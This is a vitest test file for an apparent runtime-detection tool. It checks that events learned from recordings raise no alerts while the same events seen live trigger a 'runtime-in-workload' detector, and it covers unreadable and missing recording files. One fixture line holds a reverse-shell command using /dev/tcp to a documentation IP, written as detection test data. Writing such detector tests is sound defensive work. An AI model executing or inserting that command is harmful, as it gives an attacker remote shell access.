import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { formatEventLine } from '../call/event-line.ts'
import { Redactor } from '../call/redactor.ts'
import { scene } from '../detect/graph/scene.ts'
import { Analysis } from './analysis.ts'
import { learnRecordings } from './learn-recordings.ts'

const folder = mkdtempSync(join(tmpdir(), 'sallyport-learn-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))
const redactor = new Redactor({ key: new Uint8Array(32) })

const lines = (text: string): readonly string[] =>
  scene(text).flatMap(step =>
    step.kind === 'event'
      ? [formatEventLine(step.event)]
      : step.kind === 'call'
        ? [formatEventLine(step.traffic.call)]
        : [],
  )

function recording(name: string, content: readonly string[]): string {
  const file = join(folder, name)
  writeFileSync(file, content.map(line => `${line}\n`).join(''))
  return file
}

const week = `alice to=shop/orders GET /orders/{7} -> 200
shop/orders calls shop/catalog
wait 8d
shop/orders calls shop/catalog`
const shell = `${week}
shop/orders runs "/bin/sh -i >& /dev/tcp/203.0.113.9/4444"`

describe('learning from recordings', () => {
  it('learns what is normal and raises nothing, whatever is in them', async () => {
    const analysis = new Analysis()
    const file = recording('shell.jsonl', lines(shell))
    expect(await learnRecordings(analysis, [file], redactor)).toBe('Learned from 4 recorded events.')
    expect([analysis.calls, analysis.signals(), analysis.incidents()]).toEqual([3, [], []])
    // The same, told live, is a signal.
    const live = new Analysis()
    for (const step of scene(shell)) {
      if (step.kind === 'event') live.observe(step.event)
      else if (step.kind === 'call') live.observe(step.traffic.call)
    }
    expect(live.signals().map(({ detector }) => detector)).toEqual(['runtime-in-workload'])
  })

  it('says what it could not read', async () => {
    const broken = recording('broken.jsonl', [...lines(week), '{"type":"call"', '{"type":"nothing"}'])
    expect(await learnRecordings(new Analysis(), [broken], redactor)).toBe(
      'Learned from 3 recorded events; 2 could not be read.',
    )
  })

  it('goes on without a file that is not there', async () => {
    const analysis = new Analysis()
    const said = await learnRecordings(analysis, [join(folder, 'absent.jsonl')], redactor)
    expect(said).toMatch(/^Learned from 0 recorded events, and no further: .*absent\.jsonl/)
  })
})
